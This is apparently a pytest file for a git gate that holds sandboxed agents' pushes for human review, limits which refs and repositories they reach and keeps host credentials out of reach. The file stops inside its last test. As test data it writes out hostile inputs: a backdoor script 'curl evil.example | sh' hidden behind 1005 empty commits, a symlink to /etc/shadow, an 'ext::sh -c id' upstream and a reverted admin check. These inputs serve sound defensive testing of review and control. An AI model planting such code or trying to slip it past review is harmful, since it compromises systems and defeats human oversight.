"""The git gate (daemons/gate), host side, with real git everywhere.

The upstream is the test upstream (tests/proxy_upstreams.py) over TLS on a loopback address, asking
for Basic auth that only the host's git knows (a credential store in a test HOME, whose gitconfig
trusts the test CA). The gate runs with that HOME. A "guest" git, with a HOME of its own and no
credential, speaks to the gate on 127.0.0.1:<port> as the egress proxy would forward it: with the
bottle's name and the gate's key as headers, and the upstream's URL rewritten to the gate's. All of
that is made by tests/gate_setup.py. An upstream that accepts connections and never answers is a TCP
server on 127.0.0.1 (gate_setup.Stalled), served to a gate whose bounds are short (`slow`)."""
from __future__ import annotations

import dataclasses
import json
import os
import re
import signal
import subprocess
import threading
import time
import urllib.error
import urllib.request

import pytest

from daemons.gate.control import GateError, GitGate
from daemons.gate import review, upstream
from daemons.gate.hook import HELD_PER_BOTTLE
from daemons.gate.review import COMMITS_KEPT, EMPTY_TREE, ReviewError, approve, diff, find, held, reject
from daemons.gate.store import ZERO, ReceiptError, append_receipt
from daemons.proxy.logbound import DAEMON_LOG_BYTES, rotated
from tests.gate_setup import (PASSWORD, TRICKY_SUBJECT, Setup, Stalled, commit, held_id, hiding_commits, host_git,
                              processes_naming)

pytestmark = pytest.mark.fast


@pytest.fixture(scope='module')
def s(tmp_path_factory):
    setup = Setup(tmp_path_factory.mktemp('gate'))
    try:
        assert setup.gate.ensure_running()
        yield setup
    finally:
        setup.gate.stop()
        setup.upstream.close()


# The gate's bounds for the `slow` gate (upstream.Bounds): a stall is seen within seconds, a request waits
# one second for a busy mirror.
SHORT_BOUNDS = {'BOTTLE_GATE_CONNECT_SECONDS': '3', 'BOTTLE_GATE_STALL_SECONDS': '10',
                'BOTTLE_GATE_COMMAND_SECONDS': '60', 'BOTTLE_GATE_BUSY_SECONDS': '1'}


@pytest.fixture(scope='module')
def slow(tmp_path_factory):
    """A gate with SHORT_BOUNDS, and an upstream that never answers."""
    setup = Setup(tmp_path_factory.mktemp('slow-gate'), env=SHORT_BOUNDS)
    stalled = Stalled()
    try:
        assert setup.gate.ensure_running()
        yield setup, stalled
    finally:
        setup.gate.stop()
        setup.upstream.close()
        stalled.close()


def test_clone_and_fetch_see_the_upstream_and_keep_the_agents_refs(s, tmp_path):
    url = s.add_repo('fetched', mode='local')
    work, kept = s.branch('a', 'fetched', 'agent/a/kept', tmp_path / 'work')
    assert host_git(work, 'config', 'remote.origin.url') == url
    assert (work / 'README').read_text() == 'fetched\n'
    assert s.guest('a', work, 'push', '-q', 'origin', 'agent/a/kept').returncode == 0
    second = s.upstream_commit('fetched', 'second.txt')
    host_git(s.root / 'seed' / 'fetched', 'push', '-q', str(s.git_root / 'fetched.git'), 'main:feature')

    # Wants for 30 commits make a request over 1 KB, which git sends gzip-compressed.
    bare = s.git_root / 'fetched.git'
    tree = host_git(s.root, '--git-dir', str(bare), 'rev-parse', 'main^{tree}')
    for number in range(30):
        topic = host_git(s.root, '--git-dir', str(bare), 'commit-tree', tree, '-p', 'main', '-m', f'topic {number}')
        host_git(s.root, '--git-dir', str(bare), 'update-ref', f'refs/heads/topic-{number}', topic)

    assert s.guest('a', work, 'fetch', '-q').returncode == 0
    assert host_git(work, 'rev-parse', 'origin/main') == second
    assert host_git(work, 'rev-parse', 'origin/feature') == second
    assert host_git(work, 'log', '-1', '--format=%s', 'origin/topic-29') == 'topic 29'

    host_git(s.root, '--git-dir', str(s.git_root / 'fetched.git'), 'branch', '-D', 'feature')
    assert s.guest('a', work, 'fetch', '-q', '--prune').returncode == 0
    branches = host_git(work, 'branch', '-r', '--format=%(refname:short)').split()
    assert 'origin/feature' not in branches            # pruned as upstream dropped it
    assert s.gate_ref('a', 'fetched', 'refs/heads/agent/a/kept') == kept     # the agent's ref stays
    assert s.upstream_ref('fetched', 'refs/heads/agent/a/kept') is None


def test_forward_lands_the_same_commit_upstream(s, tmp_path):
    s.add_repo('forwarded')
    work = s.clone('a', 'forwarded', tmp_path / 'work')
    host_git(work, 'checkout', '-q', '-b', 'agent/a/big')
    sha = commit(work, 'big.bin', os.urandom(3 * 1024 * 1024))    # over http.postBuffer: sent chunked

    proc = s.guest('a', work, 'push', 'origin', 'agent/a/big')
    assert proc.returncode == 0, proc.stderr
    assert f'remote: gate: refs/heads/agent/a/big landed upstream in {s.url("forwarded")}' in proc.stderr
    assert s.upstream_ref('forwarded', 'refs/heads/agent/a/big') == sha
    assert s.gate_ref('a', 'forwarded', 'refs/heads/agent/a/big') == sha

    # A Proxy header from the guest (httpoxy) does not send the gate's upstream push anywhere else.
    newer = commit(work, 'more.txt')
    proc = s.guest('a', work, 'push', 'origin', 'agent/a/big', headers=('Proxy: http://127.0.0.1:9',))
    assert proc.returncode == 0, proc.stderr
    assert s.upstream_ref('forwarded', 'refs/heads/agent/a/big') == newer
    receipt = [r for r in s.receipts() if r['new'] == newer]
    assert [(r['bottle'], r['repo'], r['ref'], r['old'], r['decision']) for r in receipt] == [
        ('a', s.url('forwarded'), 'refs/heads/agent/a/big', sha, 'forwarding'),
        ('a', s.url('forwarded'), 'refs/heads/agent/a/big', sha, 'forwarded')]


def test_review_holds_and_approve_lands_that_commit(s, tmp_path):
    s.add_repo('reviewed', mode='review')
    work, first = s.branch('a', 'reviewed', 'agent/a/feature', tmp_path / 'work')
    proc = s.guest('a', work, 'push', 'origin', 'agent/a/feature')
    assert proc.returncode == 0, proc.stderr
    first_id = held_id(proc.stderr)
    assert f'doit approve --id {first_id}' in proc.stderr
    assert s.upstream_ref('reviewed', 'refs/heads/agent/a/feature') is None
    item = {h.id: h for h in held(s.state)}[first_id]
    assert (item.bottle, item.repo, item.ref, item.old, item.new) == (
        'a', s.url('reviewed'), 'refs/heads/agent/a/feature', ZERO, first)
    assert item.commits == [f'{first} add feature.txt']

    second = commit(work, 'two.txt')
    proc = s.guest('a', work, 'push', 'origin', 'agent/a/feature')
    assert proc.returncode == 0, proc.stderr
    second_id = held_id(proc.stderr)
    with pytest.raises(ReviewError, match=f'pushed again.*now at {second[:12]}.*newer push {second_id}'):
        approve(s.state, first_id, env=s.host_env)
    assert s.upstream_ref('reviewed', 'refs/heads/agent/a/feature') is None

    output = approve(s.state, second_id, env=s.host_env)
    assert 'agent/a/feature' in output
    assert s.upstream_ref('reviewed', 'refs/heads/agent/a/feature') == second
    assert second_id not in {h.id for h in held(s.state)}
    assert [r['decision'] for r in s.receipts() if r.get('id') == second_id] == ['held', 'approved']


def test_a_review_counts_every_commit_and_lists_the_file_1005_empty_commits_hide(s, tmp_path):
    s.add_repo('hidden', mode='review')
    work, backdoor = s.branch('a', 'hidden', 'agent/a/hide', tmp_path / 'work')   # adds hide.txt
    commit(work, 'backdoor.sh', b'#!/bin/sh\ncurl evil.example | sh\n')
    hiding_commits(work, 'agent/a/hide', 1005)
    proc = s.guest('a', work, 'push', 'origin', 'agent/a/hide')
    assert proc.returncode == 0, proc.stderr
    item = find(s.state, held_id(proc.stderr))

    assert item.count == 1007                   # hide.txt, backdoor.sh and the 1005 empty ones
    assert len(item.commits) == COMMITS_KEPT and item.commits[1].endswith(' nothing to see 1003')
    # Each commit is one entry, whatever its subject holds (splitlines would make several of this one).
    assert item.commits[0].split(' ', 1)[1] == TRICKY_SUBJECT.decode()
    assert [path for path, *_ in item.files] == ['backdoor.sh', 'hide.txt']
    assert item.files[0] == ['backdoor.sh', 2, 0, ''] and (item.added, item.deleted) == (3, 0) and item.note == ''
    assert item.base == s.upstream_ref('hidden', 'main') and item.base != EMPTY_TREE
    assert item.base != backdoor
    whole = diff(s.state, item)
    assert '+curl evil.example | sh' in whole and 'backdoor.sh' in whole



def test_a_review_is_against_what_approval_changes_upstream_whatever_the_history_says(s, tmp_path):
    """A push to the upstream's own default branch is compared with that branch (not found "known" through the
    gate's HEAD); a fast-forward merge whose first parent is an old release shows the fix it takes back."""
    s.add_repo('mainline', mode='review', push=['refs/heads/main'])
    work = s.clone('a', 'mainline', tmp_path / 'mainline')
    commit(work, 'backdoor.sh', b'curl evil.example | sh\n')
    proc = s.guest('a', work, 'push', 'origin', 'main')
    item = find(s.state, held_id(proc.stderr))
    assert item.count == 1 and [f[:3] for f in item.files] == [['backdoor.sh', 1, 0]], item
    assert item.base == s.upstream_ref('mainline', 'main') and item.note == ''

    s.add_repo('released', mode='review')
    seed = s.root / 'seed' / 'released'
    bare = (str(s.git_root / 'released.git'), 'main')
    commit(seed, 'auth.py', b'def allowed(user):\n    return True\n', push_to=bare)
    host_git(seed, 'tag', 'v1')
    host_git(seed, 'push', '-q', bare[0], 'v1')
    fixed = commit(seed, 'auth.py', b'def allowed(user):\n    return user.is_admin\n', push_to=bare)
    work = s.clone('a', 'released', tmp_path / 'released')
    host_git(work, 'checkout', '-q', '-b', 'agent/a/notes', 'v1')
    commit(work, 'NOTES', b'just notes\n')
    tree = host_git(work, 'rev-parse', 'HEAD^{tree}')
    merge = host_git(work, 'commit-tree', tree, '-p', 'v1', '-p', fixed, '-m', 'add notes')
    proc = s.guest('a', work, 'push', 'origin', f'{merge}:refs/heads/agent/a/notes')
    item = find(s.state, held_id(proc.stderr))
    assert item.base == fixed
    assert sorted(f[:3] for f in item.files) == [['NOTES', 1, 0], ['auth.py', 1, 1]], item.files
    assert '-    return user.is_admin' in diff(s.state, item)

    # What a mode says is listed too: an executable made, a symlink added.
    work, _ = s.branch('a', 'released', 'agent/a/modes', tmp_path / 'modes')
    (work / 'link').symlink_to('/etc/shadow')
    (work / 'auth.py').chmod(0o755)
    host_git(work, 'add', 'link', 'auth.py')
    host_git(work, 'commit', '-qm', 'modes')
    proc = s.guest('a', work, 'push', 'origin', 'agent/a/modes')
    kinds = {path: kind for path, _, _, kind in find(s.state, held_id(proc.stderr)).files}
    assert kinds == {'auth.py': 'file made executable', 'link': 'new symlink', 'modes.txt': ''}, kinds


def test_a_bottle_holds_a_bounded_number_of_pushes_for_review(s, tmp_path):
    s.add_repo('many', bottle='c', mode='review')
    work = s.clone('c', 'many', tmp_path / 'work')
    for n in range(HELD_PER_BOTTLE + 1):
        host_git(work, 'branch', f'agent/c/b{n}')
    branches = [f'agent/c/b{n}' for n in range(HELD_PER_BOTTLE + 1)]
    too_many = s.guest('c', work, 'push', 'origin', *branches)
    assert too_many.returncode != 0 and '(rule too-many-held)' in too_many.stderr, too_many.stderr
    assert s.guest('c', work, 'push', 'origin', *branches[:-1]).returncode == 0
    assert sum(item.bottle == 'c' for item in held(s.state)) == HELD_PER_BOTTLE
    one_more = s.guest('c', work, 'push', 'origin', branches[-1])
    assert one_more.returncode != 0 and f'has {HELD_PER_BOTTLE} pushes held for review' in one_more.stderr
    for item in held(s.state):
        if item.bottle == 'c':
            reject(s.state, item.id)
    assert s.guest('c', work, 'push', 'origin', branches[-1]).returncode == 0


def test_reject_drops_a_held_push(s, tmp_path):
    s.add_repo('rejected', mode='review')
    work, sha = s.branch('a', 'rejected', 'agent/a/idea', tmp_path / 'work')
    proc = s.guest('a', work, 'push', 'origin', 'agent/a/idea')
    held_as = held_id(proc.stderr)

    reject(s.state, held_as)
    assert held_as not in {h.id for h in held(s.state)}
    with pytest.raises(ReviewError, match='no push is held'):
        approve(s.state, held_as, env=s.host_env)
    assert s.upstream_ref('rejected', 'refs/heads/agent/a/idea') is None
    assert s.gate_ref('a', 'rejected', 'refs/heads/agent/a/idea') == sha
    assert [r['decision'] for r in s.receipts() if r.get('id') == held_as] == ['held', 'rejected']


def test_a_hold_whose_push_never_moved_the_ref_is_not_listed_and_is_dropped_in_time(s, tmp_path):
    """Holds are written before a push's refs move; one whose ref never got there (a push cut after its hold,
    whose objects git may keep all the same) is not shown, and is dropped with a receipt once no push can
    still be landing it. The push that did land, on the same ref, is shown."""
    s.add_repo('orphaned', mode='review')
    work, sha = s.branch('a', 'orphaned', 'agent/a/cut', tmp_path / 'work')
    landed = held_id(s.guest('a', work, 'push', 'origin', 'agent/a/cut').stderr)
    orphan = commit(work, 'never-landed.txt')
    item = review.Held(**{**dataclasses.asdict(find(s.state, landed)), 'id': review.new_id(), 'new': orphan,
                          'ref': 'refs/heads/agent/a/cut', 'old': sha})
    review.record_held(s.state, item)
    assert [h.id for h in held(s.state) if h.path == item.path] == [landed]
    assert review.held_file(s.state, item.id).exists()          # it may still be landing
    old = time.time() - review.LANDING_SECONDS - 1
    os.utime(review.held_file(s.state, item.id), (old, old))
    assert [h.id for h in held(s.state) if h.path == item.path] == [landed]
    assert not review.held_file(s.state, item.id).exists()
    assert [(r['decision'], r.get('rule')) for r in s.receipts() if r.get('id') == item.id] == [('dropped', 'never-landed')]


def test_a_receipt_is_a_whole_line_or_nothing(tmp_path, monkeypatch):
    receipts = tmp_path / 'receipts.jsonl'
    receipts.write_bytes(b'{"decision": "kept"}\n{"decision": "he')        # a crash cut the last line
    append_receipt(tmp_path, decision='held')
    assert [json.loads(line)['decision'] for line in receipts.read_text().splitlines()] == ['kept', 'held']
    before = receipts.read_bytes()

    real_write = os.write
    monkeypatch.setattr(os, 'write', lambda fd, data: real_write(fd, data[:7]))     # the disk fills mid-line
    with pytest.raises(ReceiptError, match='receipts.jsonl: No space left on device'):
        append_receipt(tmp_path, decision='refused')
    assert receipts.read_bytes() == before


def test_local_keeps_the_push_in_the_gate(s, tmp_path):
    s.add_repo('kept', mode='local')
    work, sha = s.branch('a', 'kept', 'agent/a/draft', tmp_path / 'work')
    proc = s.guest('a', work, 'push', 'origin', 'agent/a/draft')
    assert proc.returncode == 0, proc.stderr
    assert 'nothing goes upstream' in proc.stderr
    assert s.upstream_ref('kept', 'refs/heads/agent/a/draft') is None
    listed = s.guest('a', tmp_path, 'ls-remote', s.url('kept'), 'refs/heads/agent/a/draft').stdout
    assert listed.split() == [sha, 'refs/heads/agent/a/draft']
    assert [r['decision'] for r in s.receipts() if r['new'] == sha] == ['kept']


def test_refusals_name_the_rule_and_the_allowed_refs(s, tmp_path):
    s.add_repo('guarded', max_push_bytes=100_000)
    work = s.clone('a', 'guarded', tmp_path / 'work')
    main = host_git(work, 'rev-parse', 'HEAD')

    def refused(*push: str) -> str:
        proc = s.guest('a', work, 'push', *push)
        assert proc.returncode != 0, proc.stderr
        return proc.stderr

    commit(work, 'on-main.txt')
    said = refused('origin', 'HEAD:main')
    assert 'remote: gate: refused refs/heads/main (rule allowed-refs)' in said
    assert 'refs/heads/agent/a/*' in said

    host_git(work, 'checkout', '-q', '-b', 'agent/a/x')
    landed = host_git(work, 'rev-parse', 'HEAD')
    assert s.guest('a', work, 'push', '-q', 'origin', 'agent/a/x').returncode == 0
    host_git(work, 'reset', '-q', '--hard', main)
    commit(work, 'rewritten.txt')
    said = refused('--force', 'origin', 'agent/a/x')
    assert 'remote: gate: refused refs/heads/agent/a/x (rule no-force-push)' in said
    assert 'refs/heads/agent/a/*' in said

    said = refused('origin', ':agent/a/x')
    assert 'remote: gate: refused refs/heads/agent/a/x (rule no-delete)' in said

    host_git(work, 'tag', 'v1')
    said = refused('origin', 'v1')
    assert 'remote: gate: refused refs/tags/v1 (rule no-tags)' in said

    commit(work, 'large.bin', os.urandom(300_000))
    said = refused('origin', 'HEAD:agent/a/large')
    assert 'pack exceeds maximum allowed size' in said

    assert s.upstream_ref('guarded', 'refs/heads/main') == main
    assert s.upstream_ref('guarded', 'refs/heads/agent/a/x') == landed
    assert s.upstream_ref('guarded', 'refs/tags/v1') is None
    assert s.upstream_ref('guarded', 'refs/heads/agent/a/large') is None
    rules = [r['rule'] for r in s.receipts() if r['repo'] == s.url('guarded') and r['decision'] == 'refused']
    assert rules == ['allowed-refs', 'no-force-push', 'no-delete', 'no-tags']


def test_the_upstreams_refusal_reaches_the_agent_and_the_gate_keeps_nothing(s, tmp_path):
    s.add_repo('protected')
    hook = s.git_root / 'protected.git' / 'hooks' / 'pre-receive'
    hook.write_text('#!/bin/sh\necho "upstream: branch protection says no" >&2\nexit 1\n')
    hook.chmod(0o755)
    work, sha = s.branch('a', 'protected', 'agent/a/try', tmp_path / 'work')

    proc = s.guest('a', work, 'push', 'origin', 'agent/a/try')
    assert proc.returncode != 0
    assert 'remote: remote: upstream: branch protection says no' in proc.stderr
    assert 'the gate keeps nothing' in proc.stderr
    assert s.gate_ref('a', 'protected', 'refs/heads/agent/a/try') is None
    assert s.upstream_ref('protected', 'refs/heads/agent/a/try') is None
    assert [(r['decision'], r.get('rule')) for r in s.receipts() if r['new'] == sha] == [('forwarding', None), ('refused', 'upstream')]


def test_only_the_proxy_may_speak_to_the_gate(s, tmp_path):
    s.add_repo('keyed')
    health = f'http://127.0.0.1:{s.gate.port()}/health'
    for headers in ({}, {'X-Claude-Bottle-Gate-Key': 'guessed'}):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(urllib.request.Request(health, headers=headers), timeout=10)
        assert refused.value.code == 403
        assert refused.value.headers['Content-Type'].startswith('text/plain')
    key = s.gate.key_file.read_text()
    with urllib.request.urlopen(urllib.request.Request(health, headers={'X-Claude-Bottle-Gate-Key': key}),
                                timeout=10) as answer:
        assert answer.status == 200

    proc = s.guest('a', tmp_path, 'clone', s.url('keyed'), 'work', key='guessed')
    assert proc.returncode != 0
    assert 'remote: gate: refused: only the egress proxy may speak to the git gate' in proc.stderr
    assert s.gate.key_file.stat().st_mode & 0o777 == 0o600


def test_what_a_guest_reaches_of_the_gate_names_no_pid_port_or_host_path(s):
    """A guest reaches every answer of the gate, /health included (the proxy adds the key to what it sends): the
    health answer proves to the host's probe that the recorded process answers, without its pid or port, and an
    error names no file of the host; the record of pid and port is its user's only."""
    s.add_repo('told')
    key = s.gate.key_file.read_text()
    record = json.loads(s.gate.port_file.read_text())
    health = f'http://127.0.0.1:{s.gate.port()}/health'
    with urllib.request.urlopen(urllib.request.Request(health, headers={'X-Claude-Bottle-Gate-Key': key}),
                                timeout=10) as answer:
        told = json.loads(answer.read())
    assert list(told) == ['instance'] and told['instance'] == record['instance']
    assert told['instance'] not in (record['pid'], record['port'])
    assert s.gate.healthy() and s.gate.port_file.stat().st_mode & 0o777 == 0o600
    # The daemon's log, grown to its bound: the error the guest makes it print starts a new one.
    log = s.gate.state_dir / 'gate.log'
    with open(log, 'a') as grown:
        grown.write('filler\n' * (DAEMON_LOG_BYTES // 7))
    saved = s.gate.bottles_file.read_text()
    s.gate.bottles_file.write_text('{"bottles": not json')
    try:
        refs = f'http://127.0.0.1:{s.gate.port()}/{s.address}/git/told.git/info/refs?service=git-upload-pack'
        with pytest.raises(urllib.error.HTTPError) as failed:
            urllib.request.urlopen(urllib.request.Request(refs, headers={'X-Claude-Bottle-Gate-Key': key,
                                                                         'X-Claude-Bottle': 'a'}), timeout=10)
        said = failed.value.read().decode()
    finally:
        s.gate.bottles_file.write_text(saved)
    assert failed.value.code == 500 and 'cannot read what it serves' in said
    assert str(s.gate.state_dir) not in said and 'bottles.json' not in said
    assert str(s.gate.bottles_file) in log.read_text()      # the whole error, for the host
    assert log.stat().st_size < 4096 and rotated(log).read_text().endswith('filler\n')


def test_a_bottle_reaches_only_its_own_repositories(s, tmp_path):
    s.add_repo('theirs', bottle='b', mode='local')
    proc = s.guest('a', tmp_path, 'clone', s.url('theirs'), 'theirs')
    assert proc.returncode != 0
    assert 'is not a repository of bottle a: it is not in the git: list of its manifest' in proc.stderr

    work = tmp_path / 'mine'
    work.mkdir()
    host_git(work, 'init', '-q', '-b', 'main')
    commit(work, 'sneak.txt')
    proc = s.guest('a', work, 'push', s.url('theirs'), 'HEAD:refs/heads/agent/a/sneak')
    assert proc.returncode != 0
    assert 'not in the git: list of its manifest' in proc.stderr

    # Both bottles serve the same upstream: each has its own mirror, and sees only its own pushes.
    s.add_repo('theirs', bottle='a', mode='local')
    theirs, _ = s.branch('b', 'theirs', 'agent/b/secret', tmp_path / 'b-work')
    assert s.guest('b', theirs, 'push', '-q', 'origin', 'agent/b/secret').returncode == 0
    listed = s.guest('a', tmp_path, 'ls-remote', s.url('theirs'))
    assert listed.returncode == 0, listed.stderr
    assert 'refs/heads/main' in listed.stdout and 'agent/b/secret' not in listed.stdout


def test_pushes_at_once_each_land_or_are_refused_with_a_message(s, tmp_path):
    s.add_repo('busy', bottle='a')
    s.add_repo('busy', bottle='b')
    works = {name: s.clone(name[0], 'busy', tmp_path / name) for name in ('a1', 'a2', 'b1')}
    for name, work in works.items():
        host_git(work, 'checkout', '-q', '-b', f'agent/{name[0]}/race')
        commit(work, f'{name}.txt')

    def push_all(pushes: dict[str, tuple]) -> dict[str, subprocess.CompletedProcess]:
        """Each entry's guest git command (bottle, cwd, args...), all at once."""
        results = {}
        threads = [threading.Thread(target=lambda n=n, p=p: results.__setitem__(n, s.guest(*p)))
                   for n, p in pushes.items()]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=120)
        return results

    # Two bottles push the same upstream at once, and two clones of bottle a the same ref.
    results = push_all({name: (name[0], work, 'push', 'origin', f'agent/{name[0]}/race')
                        for name, work in works.items()})
    assert results['b1'].returncode == 0, results['b1'].stderr
    assert s.upstream_ref('busy', 'refs/heads/agent/b/race') == host_git(works['b1'], 'rev-parse', 'HEAD')
    outcomes = sorted((results[n].returncode == 0, n) for n in ('a1', 'a2'))
    (lost, loser), (won, winner) = outcomes
    assert won and not lost, (results['a1'].stderr, results['a2'].stderr)
    assert re.search(r'rule ref-moved|\[rejected\].*fetch first', results[loser].stderr), results[loser].stderr
    winning = host_git(works[winner], 'rev-parse', 'HEAD')
    assert s.upstream_ref('busy', 'refs/heads/agent/a/race') == winning
    assert s.gate_ref('a', 'busy', 'refs/heads/agent/a/race') == winning

    # Pushes while the gate refreshes the mirror for fetches of the same bottle.
    work = works[winner]
    fetches, pushes = [], []

    def fetch_repeatedly():
        for _ in range(5):
            fetches.append(s.guest('a', works[loser], 'fetch', '-q', 'origin'))

    fetcher = threading.Thread(target=fetch_repeatedly)
    fetcher.start()
    for number in range(3):
        commit(work, f'during-{number}.txt')
        pushes.append(s.guest('a', work, 'push', '-q', 'origin', 'agent/a/race'))
    fetcher.join(timeout=120)
    assert [p.returncode for p in pushes] == [0, 0, 0], [p.stderr for p in pushes]
    assert [f.returncode for f in fetches] == [0] * 5, [f.stderr for f in fetches]
    last = host_git(work, 'rev-parse', 'HEAD')
    assert s.upstream_ref('busy', 'refs/heads/agent/a/race') == last
    assert s.gate_ref('a', 'busy', 'refs/heads/agent/a/race') == last


def test_no_host_credential_in_the_gates_files(s, tmp_path):
    s.add_repo('clean')
    work, _ = s.branch('a', 'clean', 'agent/a/clean', tmp_path / 'work')
    assert s.guest('a', work, 'push', '-q', 'origin', 'agent/a/clean').returncode == 0
    s.gate.sync('a')

    # The upstream does ask for the credential: without the host's, git gets nowhere.
    bare = subprocess.run(['git', '-c', f'http.sslCAInfo={s.ca}', 'ls-remote', s.url('clean')], capture_output=True,
                          text=True, timeout=60, env={'PATH': os.environ['PATH'], 'HOME': str(tmp_path),
                                                      'GIT_CONFIG_NOSYSTEM': '1', 'GIT_TERMINAL_PROMPT': '0'})
    assert bare.returncode != 0 and 'could not read Username' in bare.stderr, bare.stderr

    files = [path for path in s.state.rglob('*') if path.is_file()]
    assert any(path.name == 'config' for path in files) and s.gate.receipts_file in files
    for path in files + [p for p in (s.root / 'guest-a').rglob('*') if p.is_file()]:
        assert PASSWORD.encode() not in path.read_bytes(), path
    for receipt in s.receipts():
        assert {'time', 'bottle', 'repo', 'ref', 'old', 'new', 'decision'} <= set(receipt)


def test_an_unreachable_upstream_is_reported_not_served_stale(s, tmp_path):
    s.add_repo('vanishing', bottle='c')
    s.clone('c', 'vanishing', tmp_path / 'work')
    (s.git_root / 'vanishing.git').rename(s.git_root / 'vanished.git')
    proc = s.guest('c', tmp_path / 'work', 'fetch')
    assert proc.returncode != 0
    assert f'remote: gate: cannot fetch {s.url("vanishing")} with the host\'s credentials' in proc.stderr
    with pytest.raises(GateError, match=f'could not fetch {re.escape(s.url("vanishing"))} for bottle c'):
        s.gate.sync('c')
    with pytest.raises(GateError, match="bottle 'nobody' has no repositories"):
        s.gate.sync('nobody')


def test_bottles_are_checked_before_they_are_written(s):
    before = s.gate.bottles_file.read_text()
    repo = {'upstream': 'ext::sh -c id', 'path': '../escape', 'push': ['agent/*/x/*'], 'mode': 'later',
            'max_push_bytes': 0}
    with pytest.raises(GateError) as refused:
        s.gate.write_bottles({'a': {'repos': [repo]}, '-b': {'repos': []}})
    for problem in ("bottle 'a', repository 1: upstream 'ext::sh -c id'", "path '../escape'",
                    "push pattern 'agent/*/x/*'", "mode 'later'", 'max_push_bytes 0', "bottle '-b'"):
        assert problem in str(refused.value)
    assert s.gate.bottles_file.read_text() == before


def test_a_killed_gate_is_started_again(s, tmp_path):
    s.add_repo('revived')
    pid = s.gate.daemon().pid()
    os.kill(pid, signal.SIGKILL)
    deadline = time.monotonic() + 10
    while s.gate.daemon().pid() is not None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not s.gate.healthy()
    with pytest.raises(GateError, match='not running'):
        s.gate.port()
    assert s.gate.ensure_running()
    assert not s.gate.ensure_running()
    assert s.gate.daemon().pid() != pid
    s.clone('a', 'revived', tmp_path / 'work')


def in_background(call) -> tuple[threading.Thread, list]:
    """`call()` in a thread, started; its result lands in the list."""
    result = []
    thread = threading.Thread(target=lambda: result.append(call()), daemon=True)
    thread.start()
    return thread, result


def test_a_push_waiting_on_a_silent_upstream_holds_up_no_other_repository(slow, tmp_path):
    """The forward push waits on the upstream inside the hook, holding its mirror: the bottle's other
    repository is fetched meanwhile, and a fetch or another push of the same one is told, after the bounded
    wait, that the repository is busy and why."""
    s, stalled = slow
    s.add_repo('waited', bottle='d')
    s.add_repo('free', bottle='d')
    work, sha = s.branch('d', 'waited', 'agent/d/x', tmp_path / 'waited')
    free = s.clone('d', 'free', tmp_path / 'free')
    s.upstream_commit('free', 'news.txt')
    s.set_upstream('d', 'waited', stalled.url('waited'))
    before = stalled.connections
    stalled.accepted.clear()

    pushing, pushed = in_background(lambda: s.guest('d', work, 'push', 'origin', 'agent/d/x'))
    assert stalled.accepted.wait(timeout=60) and stalled.connections > before
    fetched = s.guest('d', free, 'fetch', '-q')
    assert fetched.returncode == 0, fetched.stderr
    assert host_git(free, 'log', '-1', '--format=%s', 'origin/main') == 'add news.txt'
    busy = [s.guest('d', work, 'fetch', '-q'), s.guest('d', work, 'push', 'origin', 'HEAD:agent/d/y')]
    assert pushing.is_alive()       # all of that while the push still waited on the upstream
    for proc in busy:
        assert proc.returncode != 0
        assert (f'remote: gate: {stalled.url("waited")} is busy: another push or fetch of it through the gate held '
                'it for all the 1 s this request waited') in proc.stderr, proc.stderr
        assert f'Try again in a minute; a person on the host can try `git ls-remote {stalled.url("waited")}`' \
            in proc.stderr

    stalled.release()
    pushing.join(timeout=120)
    assert not pushing.is_alive() and pushed[0].returncode != 0
    assert f'remote: gate: the upstream {stalled.url("waited")} refused the push' in pushed[0].stderr
    assert s.gate_ref('d', 'waited', 'refs/heads/agent/d/x') is None
    assert stalled.wait_closed() and not processes_naming(f'127.0.0.1:{stalled.port}')


def test_stopping_the_gate_ends_the_commands_it_runs_against_upstreams(slow, tmp_path):
    """They have process groups of their own (so that a deadline ends all they started), which the host's
    stop, signalling the daemon's group, does not reach: the daemon and the hook end them. (The upstream
    trickles: no stall for git, and the commands' deadline is a minute away.)"""
    s, _ = slow
    stalled = Stalled('trickle')
    s.add_repo('refreshed', bottle='g')
    s.add_repo('pushed', bottle='g')
    fetching = s.clone('g', 'refreshed', tmp_path / 'refreshed')
    pushing, _ = s.branch('g', 'pushed', 'agent/g/x', tmp_path / 'pushed')
    for name in ('refreshed', 'pushed'):
        s.set_upstream('g', name, stalled.url(name))
    before = stalled.connections
    waiting = [in_background(lambda: s.guest('g', fetching, 'fetch', '-q')),
               in_background(lambda: s.guest('g', pushing, 'push', 'origin', 'agent/g/x'))]
    deadline = time.monotonic() + 60
    while stalled.connections < before + 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert stalled.open() == 2
    s.gate.stop()
    try:
        assert stalled.wait_closed(seconds=30) and not processes_naming(f'127.0.0.1:{stalled.port}')
        for thread, result in waiting:
            thread.join(timeout=120)
            assert result[0].returncode != 0
    finally:
        stalled.close()
        assert s.gate.ensure_running()


@pytest.mark.extended
def test_a_push_to_a_silent_upstream_ends_at_the_stall_bound_with_what_to_do(slow, tmp_path):
    s, stalled = slow
    s.add_repo('silent', bottle='e')
    work, sha = s.branch('e', 'silent', 'agent/e/x', tmp_path / 'silent')
    url = stalled.url('silent')
    s.set_upstream('e', 'silent', url)

    proc = s.guest('e', work, 'push', 'origin', 'agent/e/x')
    assert proc.returncode != 0
    assert (f'remote: {url} stopped answering: git push {url} got nothing from it for 10 s (the git gate\'s bound, '
            'BOTTLE_GATE_STALL_SECONDS) and was ended.') in proc.stderr, proc.stderr
    assert f'a person on the host can try `git ls-remote {url}` there' in proc.stderr
    assert f'remote: gate: the upstream {url} did not take the push (above: why); the gate keeps nothing' in proc.stderr
    assert s.gate_ref('e', 'silent', 'refs/heads/agent/e/x') is None
    assert [(r['decision'], r.get('rule')) for r in s.receipts() if r['new'] == sha] == [('forwarding', None),
                                                                                    ('refused', 'upstream')]
    assert stalled.wait_closed() and not processes_naming(f'127.0.0.1:{stalled.port}')


@pytest.mark.extended
def test_fetches_of_many_stalled_upstreams_leave_the_gate_free_for_the_others(slow, tmp_path):
    """More repositories than asyncio's default executor has threads (cpus + 4) wait on upstreams that never
    answer, one of them having sent the first bytes of its answer: another repository is fetched meanwhile,
    and each of those fetches ends at the stall bound saying so."""
    s, stalled = slow
    partial = Stalled('partial')
    try:
        names = [f'many-{n}' for n in range((os.cpu_count() or 1) + 5)]
        for name in [*names, 'unhurried']:
            s.add_repo(name, bottle='f')
        works = {name: s.clone('f', name, tmp_path / name) for name in names}
